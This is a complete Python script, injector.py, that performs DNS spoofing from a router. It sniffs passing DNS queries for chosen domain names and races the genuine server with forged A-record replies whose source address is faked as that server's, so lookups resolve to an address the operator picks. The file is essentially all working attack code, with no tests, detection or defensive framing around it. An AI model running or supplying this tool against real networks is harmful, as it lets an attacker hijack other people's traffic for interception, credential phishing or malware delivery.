"""Answers other people's clear-text questions for some names before the true answer can come.

Run as ``injector.py DEVICE ANSWER NAME ...`` on a router: it sees a copy of each packet that comes in by the device, and
sends a forged reply with the asked server's address as its source.  The question and the true answer pass untouched: it
is a race, which whoever stands nearer to the asker wins.
"""

from __future__ import annotations

import socket
import struct
import sys

import dns.exception
import dns.flags
import dns.message
import dns.rrset

_ETH_P_IP = 0x0800  # linux/if_ether.h
_UDP = 17
_DNS = 53


def forged(question: bytes, names: set[str], answer: str) -> bytes | None:
    """Return a false reply to a question for one of the names, or None for any other packet."""
    try:
        query = dns.message.from_wire(question)
    except (dns.exception.DNSException, ValueError):
        return None
    if query.flags & dns.flags.QR or not query.question or query.question[0].name.to_text(omit_final_dot=True).lower() not in names:
        return None
    reply = dns.message.make_response(query, recursion_available=True)
    if query.question[0].rdtype == 1:
        reply.answer.append(dns.rrset.from_text(query.question[0].name, 60, "IN", "A", answer))
    return reply.to_wire()


def datagram(source: bytes, target: bytes, ports: tuple[int, int], payload: bytes) -> bytes:
    """Return an IPv4 packet with a UDP datagram; the kernel fills in the header's checksum (RFC 768: none for UDP)."""
    udp = struct.pack("!HHHH", *ports, 8 + len(payload), 0) + payload
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, _UDP, 0, source, target) + udp


def main() -> None:
    """Listen and answer until killed."""
    device, answer, *listed = sys.argv[1:]
    names = {name.lower() for name in listed}
    ear = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(_ETH_P_IP))
    ear.bind((device, _ETH_P_IP))
    mouth = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    print("ready", flush=True)
    while True:
        packet, (_, _, kind, *_rest) = ear.recvfrom(65535)
        size = (packet[0] & 0x0F) * 4
        if kind == socket.PACKET_OUTGOING or packet[9] != _UDP:
            continue
        asker, server = struct.unpack("!HH", packet[size : size + 4])
        reply = forged(packet[size + 8 :], names, answer) if server == _DNS else None
        if reply:
            source, target = packet[12:16], packet[16:20]
            mouth.sendto(datagram(target, source, (server, asker), reply), (socket.inet_ntoa(source), 0))


if __name__ == "__main__":
    main()
